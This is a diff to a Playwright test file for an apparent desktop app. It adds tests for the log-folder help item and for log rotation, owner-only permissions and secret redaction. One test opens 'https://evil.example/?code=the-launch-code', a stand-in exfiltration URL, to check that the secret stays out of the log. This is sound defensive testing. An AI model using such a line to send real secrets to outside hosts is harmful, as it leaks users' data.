@@ -1,4 +1,4 @@
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Page } from '@playwright/test';
 import { checkAccessibility } from '../e2e/support/accessibility.ts';
@@ -134,6 +134,32 @@ test('Help opens the folder of the log', async ({ shell, page }) => {
   await expect(page.getByRole('main')).toBeVisible();
   await shell.order('choose-from-menu', ['Help', 'Open the log folder']);
   expect(await shell.openedAddress()).toBe(join(shell.dataDir, 'practice'));
+});
+
+test.describe('where nothing may be opened outside', () => {
+  test.use({ shellArgs: ['--practice', '--no-open'] });
+  test('Help says where the log lies, and copies that', async ({ shell, page }) => {
+    await expect(page.getByRole('main')).toBeVisible();
+    await shell.order('choose-from-menu', ['Help', 'Open the log folder']);
+    const folder = join(shell.dataDir, 'practice');
+    const box = await shell.answer('dialog.showMessageBox', { response: 0 });
+    expect(box).toMatchObject({ message: 'The log lies in this folder.', detail: folder });
+    expect(await shell.next('clipboard.writeText')).toBe(folder);
+  });
+});
+
+test('the log of the shell is the owner’s only, rotates, and holds no secret of a page that fails', async ({
+  shell,
+  page,
+}) => {
+  await expect(page.getByRole('main')).toBeVisible();
+  const log = join(shell.dataDir, 'practice', 'usage-desk.log');
+  writeFileSync(log, 'x'.repeat(999_990));
+  await page.evaluate("window.open('https://evil.example/?code=the-launch-code')");
+  await expect.poll(() => existsSync(`${log}.1`)).toBe(true);
+  expect(statSync(`${log}.1`).size).toBe(999_990);
+  expect(statSync(log).mode & 0o777).toBe(0o600);
+  expect(readFileSync(log, 'utf8')).not.toContain('the-launch-code');
 });
 
 test('the about box has the versions, and copies them', async ({ shell, page }) => {
